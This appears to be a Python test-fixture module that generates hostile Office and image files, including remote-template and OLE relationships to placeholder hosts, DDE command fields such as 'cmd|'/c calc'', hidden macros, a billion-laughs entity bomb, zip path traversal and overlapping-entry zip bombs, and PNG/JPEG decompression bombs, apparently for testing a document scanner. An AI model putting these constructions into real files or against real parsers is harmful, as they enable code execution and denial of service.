"""More hostile Office files and pictures, harmless by content."""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

from tests.documents.hostile import docx, docx_with_macros, office, picture, plain_pdf

WORD = "wordprocessingml.document.main+xml"
SHEET = "spreadsheetml.sheet.main+xml"
_RELATIONS = "word/_rels/document.xml.rels"
_SHEET_PART = "xl/worksheets/sheet1.xml"


def with_relation(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    """Return a DOCX that leads to something."""
    relation = b"<Relationship Id='r1' Type='http://x/%s' Target='%s' TargetMode='%s'/>"
    told = b"<Relationships>" + relation % (kind, target, mode) + b"</Relationships>"
    return office(WORD, {_RELATIONS: told})


def picture_from_afar() -> bytes:
    return with_relation(b"image", b"https://x/tracker.png")


def object_from_afar() -> bytes:
    return with_relation(b"oleObject", b"mhtml:http://x/a.html!x-usc:http://x/a.html")


def template_spelled_out() -> bytes:
    """Return a DOCX that loads a template, with the telling word written as entities."""
    return with_relation(b"attachedTemplate", b"http://x/t.dotm", b"&#69;xternal")


def link_to_click_on() -> bytes:
    return with_relation(b"hyperlink", b"https://example.com/terms")


def link_into_a_network() -> bytes:
    return with_relation(b"hyperlink", b"file://host/share/x")


def web_page_inside() -> bytes:
    return with_relation(b"aFChunk", b"chunk.html", b"Internal")


def command_in_pieces() -> bytes:
    """Return a DOCX whose DDE field is cut in two by formatting."""
    pieces = b"<w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText>"
    return office(WORD, {"word/document.xml": b"<w:p><w:r><w:fldChar/>%s</w:r></w:p>" % pieces})


def command_in_a_cell() -> bytes:
    formula = b"<worksheet><c><f>cmd&#124;&apos;/c calc&apos;!A0</f></c></worksheet>"
    return office(SHEET, {_SHEET_PART: formula})


def cell_that_asks_the_web() -> bytes:
    formula = b"<worksheet><c><f>_xlfn.WEBSERVICE(&quot;http://x&quot;)</f></c></worksheet>"
    return office(SHEET, {_SHEET_PART: formula})


def workbook_linked_to_another() -> bytes:
    return office(SHEET, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


def workbook_with_a_connection() -> bytes:
    return office(SHEET, {"xl/connections.xml": b"<connections/>"})


def old_macros_in_a_sheet() -> bytes:
    return office(SHEET, {"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})


def macros_by_another_name() -> bytes:
    """Return a DOCX whose macros lie in a part of an innocent name."""
    return with_relation(b"vbaProject", b"styles.dat", b"Internal")


def macros_in_a_file_inside() -> bytes:
    return office(WORD, {"word/embeddings/chart.xlsx": docx_with_macros()})


def files_in_files() -> bytes:
    inner = office(WORD, {"word/embeddings/a.docx": docx()})
    return office(WORD, {"word/embeddings/b.docx": inner})


def program_by_another_name() -> bytes:
    program = b"MZ" + bytes(62) + b"This program cannot be run in DOS mode" + b"PE\0\0"
    return office(WORD, {"word/media/image1.png": program})


def laughs() -> bytes:
    """Return a DOCX with entities that grow tenfold, nine times."""
    grows = "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 10))
    told = f'<!DOCTYPE a [<!ENTITY e0 "ha">{grows}]><w:document>&e9;</w:document>'
    return office(WORD, {"word/document.xml": told.encode()})


def written_in_utf_16() -> bytes:
    return office(WORD, {"word/document.xml": "<w:document/>".encode("utf-16")})


def parts_that_climb() -> bytes:
    return office(WORD, {"../../../tmp/evil.xml": b"<a/>"})


def parts_named_twice() -> bytes:
    return office(WORD, {"word/document.xml": b"<a/>", "word/DOCUMENT.xml": b"<b/>"})


def parts_that_overlap() -> bytes:
    """Return a DOCX with 2,000 parts that are all the same 4 MB, packed once."""
    content = bytes(4 << 20)
    into = BytesIO(office(WORD, {"word/document.xml": content}))
    whole = into.getvalue()
    with zipfile.ZipFile(into) as parts:
        part = parts.getinfo("word/document.xml")
        others = [one for one in parts.infolist() if one is not part]
    head = whole[: parts.start_dir]
    listed = [_listed(one, one.filename) for one in others]
    listed += [_listed(part, f"word/{number}.xml") for number in range(2000)]
    names = b"".join(listed)
    end = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, len(listed), len(listed), len(names), len(head), 0
    )
    return head + names + end


def too_many_parts() -> bytes:
    return office(WORD, {f"word/{number}.xml": b"" for number in range(5001)})


def locked_parts() -> bytes:
    whole = bytearray(docx())
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = 0
        while (at := whole.find(mark, at)) >= 0:
            whole[at + place] |= 1
            at += 4
    return bytes(whole)


def old_office() -> bytes:
    """Return what an old Office file, or one with a password, begins with."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)


def picture_with_a_zip() -> bytes:
    return picture() + docx()


def picture_that_is_a_pdf() -> bytes:
    return picture("JPEG")[:2] + b"\xff\xfe\x02\xc8" + plain_pdf() + picture("JPEG")[2:]


def picture_with_endless_words() -> bytes:
    """Return a PNG whose comment unfolds to a gigabyte."""
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(256)) + squeeze.flush()
    return _with_chunk(b"zTXt", b"Comment\0\0" + packed)


def picture_with_an_endless_profile() -> bytes:
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(256)) + squeeze.flush()
    return _with_chunk(b"iCCP", b"Profile\0\0" + packed)


def picture_of_no_size() -> bytes:
    whole = bytearray(picture())
    whole[16:24] = bytes(8)
    whole[29:33] = zlib.crc32(bytes(whole[12:29])).to_bytes(4, "big")
    return bytes(whole)


def film_of_pictures() -> bytes:
    """Return a PNG that says it holds four billion pictures."""
    return _with_chunk(b"acTL", struct.pack(">LL", 0xFFFF_FFFE, 0))


def jpeg_in_a_thousand_scans() -> bytes:
    """Return a JPEG of 24 megapixels that is drawn over and over."""
    into = BytesIO()
    Image.new("L", (6000, 4000), 128).save(into, "JPEG", progressive=True, quality=20)
    whole = into.getvalue()
    scan = whole.rfind(b"\xff\xda")
    return whole[:-2] + whole[scan:-2] * 1000 + b"\xff\xd9"


def _with_chunk(kind: bytes, content: bytes) -> bytes:
    whole = picture()
    check = zlib.crc32(kind + content).to_bytes(4, "big")
    return whole[:33] + struct.pack(">L", len(content)) + kind + content + check + whole[33:]


def _listed(part: zipfile.ZipInfo, name: str) -> bytes:
    told = (20, 20, 0, part.compress_type, 0, 0, part.CRC, part.compress_size, part.file_size)
    fields = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", *told, len(name), 0, 0, 0, 0, 0, part.header_offset
    )
    return fields + name.encode()
